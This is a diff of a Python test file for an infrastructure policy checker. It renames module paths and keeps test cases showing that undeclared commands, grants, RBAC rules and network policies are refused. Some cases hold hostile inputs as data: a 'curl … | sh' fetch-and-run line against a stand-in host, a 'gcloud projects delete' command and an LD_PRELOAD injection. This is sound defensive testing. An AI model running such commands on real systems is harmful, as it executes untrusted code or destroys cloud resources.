@@ -74,8 +74,8 @@ def cluster(**overrides: Any) -> dict[str, Any]:
 
 
 def build_command(**changes: Any) -> dict[str, Any]:
-    """The TPU engine image's build command as the program declares it (components/engineimage.py)."""
-    from components import engineimage
+    """The TPU engine image's build command as the program declares it (components/serving/engineimage.py)."""
+    from components.serving import engineimage
 
     return {"create": engineimage.build_script(), "interpreter": list(engineimage.BUILD_INTERPRETER),
             "dir": "components/locks", "environment": dict.fromkeys(engineimage.BUILD_ENVIRONMENT, "x"), **changes}
@@ -115,7 +115,7 @@ PRIVATE = ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "169.254.0.0/16")
 
 
 def engine_set(image: str = "vllm/vllm-openai:v9.9.9@sha256:" + "0" * 64, name: str = "vllm") -> dict[str, Any]:
-    """A GPU engine set as components/declared.py declares it: privileged, host IPC, the driver's host path."""
+    """A GPU engine set as components/checks/declared.py declares it: privileged, host IPC, the driver's host path."""
     return {"kind": "DisaggregatedSet", "metadata": {"name": "kimi-k3-1-vllm", "namespace": "kimi-k3-1"},
             "spec": {"roles": [{"spec": {"leaderWorkerTemplate": {"workerTemplate": {"spec": {
                 "hostIPC": True, "automountServiceAccountToken": False,
@@ -244,7 +244,8 @@ CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
      ['sourceRanges[0] "0.0.0.0/0" lets the internet in; allow only the addresses that need it']),
     # ---- declared-workloads: the exemption is the container's own (kind, object, container), never the image's
     ("declared-workloads", DEPLOYMENT, deployment(), [
-        "spec.template.spec: Deployment 'd' in namespace '' is not a declared workload (components/declared.py)"]),
+        "spec.template.spec: Deployment 'd' in namespace '' is not a declared workload "
+        "(components/checks/declared.py)"]),
     ("declared-workloads", DSET, engine_set(), []),
     ("declared-workloads", DSET, engine_set(image="debian:13"),
      ["spec.roles[0].spec.leaderWorkerTemplate.workerTemplate.spec: container 'vllm' (image 'debian:13') is not "
@@ -257,26 +258,26 @@ CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
     ("declared-types", BUCKET, bucket(), []),
     ("declared-types", "gcp:compute/forwardingRule:ForwardingRule", {"name": "x"},
      ["resource type gcp:compute/forwardingRule:ForwardingRule is not one the program declares "
-      "(components/declared.py TYPES)"]),
+      "(components/checks/declared.py TYPES)"]),
     # ---- declared-config-maps
     ("declared-config-maps", "kubernetes:core/v1:ConfigMap", {"metadata": {"name": "envoy"}, "data": {"a": "b"}}, []),
     ("declared-config-maps", "kubernetes:core/v1:ConfigMap",
      {"metadata": {"name": "kimi-k3-1-vllm-torchtpu-lock"}, "data": {"requirements.txt": "vllm-torchtpu\n"}},
      # The TPU pods install nothing at start any more: a lock ConfigMap is no object of the program.
-     ["ConfigMap 'kimi-k3-1-vllm-torchtpu-lock' is not declared (components/declared.py CONFIGMAPS)"]),
+     ["ConfigMap 'kimi-k3-1-vllm-torchtpu-lock' is not declared (components/checks/declared.py CONFIGMAPS)"]),
     # ---- declared-grants
     ("declared-grants", "gcp:projects/iAMMember:IAMMember",
      {"role": "roles/container.defaultNodeServiceAccount", "member": f"serviceAccount:{NODE_SA}"}, []),
     ("declared-grants", "gcp:projects/iAMMember:IAMMember", {"role": "roles/storage.admin",
                                                                "member": f"serviceAccount:{NODE_SA}"},
      [f'member: role "roles/storage.admin" to "serviceAccount:{NODE_SA}" is not a declared grant '
-      "(components/declared.py GRANTS)"]),
+      "(components/checks/declared.py GRANTS)"]),
     # ---- declared-rbac
     ("declared-rbac", "kubernetes:rbac.authorization.k8s.io/v1:Role",
      {"metadata": {"name": "r"}, "rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}]}, []),
     ("declared-rbac", "kubernetes:rbac.authorization.k8s.io/v1:ClusterRole",
      {"metadata": {"name": "r"}, "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}]},
-     ["r: rules[0] grants 'get' on 'secrets', not declared for this role (components/declared.py ROLES)"]),
+     ["r: rules[0] grants 'get' on 'secrets', not declared for this role (components/checks/declared.py ROLES)"]),
     # ---- declared-network-policies
     ("declared-network-policies", NETPOL, {"metadata": {"name": "kimi-k3-1-benchmark"}, "spec": {
         "policyTypes": ["Egress"], "egress": [
@@ -287,12 +288,12 @@ CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
         {"ports": [{"port": 443}], "to": [{"ipBlock": {"cidr": "0.0.0.0/0", "except": list(PRIVATE)}}]}]}},
      ['kimi-k3-1-vllm-pods: egress[0].to[0] ipBlock "0.0.0.0/0" (except ["10.0.0.0/8", "172.16.0.0/12", '
       '"192.168.0.0/16", "169.254.0.0/16"], ports [\'443\']) is not a declared address peer of this policy '
-      "(components/declared.py)"]),
+      "(components/checks/declared.py)"]),
     ("declared-network-policies", NETPOL, {"metadata": {"name": "kimi-k3-1-vllm-pods"}, "spec": {
         "policyTypes": ["Ingress", "Egress"], "egress": [
         {"ports": [{"port": 443}], "to": [{"ipBlock": {"cidr": "0.0.0.0/1"}}]}]}},
      ['kimi-k3-1-vllm-pods: egress[0].to[0] ipBlock "0.0.0.0/1" (except not set, ports [\'443\']) is not a '
-      "declared address peer of this policy (components/declared.py)"]),
+      "declared address peer of this policy (components/checks/declared.py)"]),
     # ---- declared-storage
     ("declared-storage", "kubernetes:core/v1:PersistentVolumeClaim",
      {"metadata": {"name": "kimi-k3-1-models-000000000000"}, "spec": {"accessModes": ["ReadOnlyMany"]}}, []),
@@ -325,14 +326,16 @@ CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
     # ---- declared-commands
     ("declared-commands", "command:local:Command", build_command(), []),
     ("declared-commands", "command:local:Command", build_command(create="curl -fsSL http://x.invalid/i.sh | sh"),
-     ["a local command that is not declared (components/declared.py commands): interpreter [\"/bin/bash\", \"-c\"], "
+     ["a local command that is not declared (components/checks/declared.py commands): interpreter [\"/bin/bash\", "
+      "\"-c\"], "
       "dir \"components/locks\", script starting 'curl -fsSL http://x.invalid/i.sh | sh'"]),
     ("declared-commands", "command:local:Command", build_command(delete="gcloud projects delete p"),
      ['runs a delete command ("gcloud projects delete p"), which the declaration has none of']),
     ("declared-commands", "command:local:Command", build_command(environment={"PROJECT": "p", "LD_PRELOAD": "x"}),
      ["sets environment ['LD_PRELOAD'], which the declaration does not name"]),
     ("declared-commands", "command:local:Command", build_command(interpreter=["/bin/sh", "-c"]),
-     ["a local command that is not declared (components/declared.py commands): interpreter [\"/bin/sh\", \"-c\"], "
+     ["a local command that is not declared (components/checks/declared.py commands): interpreter [\"/bin/sh\", "
+      "\"-c\"], "
       "dir \"components/locks\", script starting 'set -euo pipefail'"]),
     # ---- k8s-pinned-images
     ("k8s-pinned-images", DEPLOYMENT, deployment(), []),
@@ -956,7 +959,7 @@ def test_every_declared_privilege_is_used_by_a_committed_plan(plans, variants):
     """The declarations are not stale: every privilege, host namespace and host path a container of the committed
     plans is declared to have, it uses (some exempt containers come from charts, so this needs chart objects), and
     every privileged or host-path declaration says why with a source a reader can open."""
-    from components import declared
+    from components.checks import declared
 
     used: dict[tuple[str, str, str], set[str]] = {}
     committed = [r for stack in STACKS for r in rendered(plans[stack]).resources]
@@ -990,7 +993,7 @@ def test_every_declared_privilege_is_used_by_a_committed_plan(plans, variants):
     ("us-docker.pkg.dev/p/r/img:v1@sha256:" + "b" * 64, "us-docker.pkg.dev/p/r/img"),
 ])
 def test_image_repository_normalization(reference, repository):
-    from components import hardening
+    from components.platform import hardening
 
     assert hardening.repository(reference) == repository
 
@@ -1184,7 +1187,7 @@ def test_a_tpu_engine_that_installs_at_start_or_runs_an_undigested_image_is_refu
     """The TPU engine runs the stack's build by digest and installs nothing: the old start-time install of the lock
     from the public index, the build by its tag, or the plain Python base are each refused, in the engine and in
     the pre-pull DaemonSet alike."""
-    from components import versions
+    from components.facts import versions
 
     resources = copy.deepcopy(plan_resources["tpu"])
     lws = _one(resources, LWS)
@@ -1202,7 +1205,7 @@ def test_a_tpu_engine_that_installs_at_start_or_runs_an_undigested_image_is_refu
     engine["image"] = built.split("@", 1)[0] + ":lock-" + "0" * 64
     assert rules.check_declared_workloads(LWS, lws) == [
         f"{prefix}: runs image {engine['image']!r} without a sha256 digest: the workload declares its image pinned by "
-        "digest (the stack's own build, components/engineimage.py)"]
+        "digest (the stack's own build, components/serving/engineimage.py)"]
     engine["image"] = versions.VLLM_TORCHTPU.image
     [found] = rules.check_declared_workloads(LWS, lws)
     assert "is not declared for the workload" in found and versions.VLLM_TORCHTPU.image in found
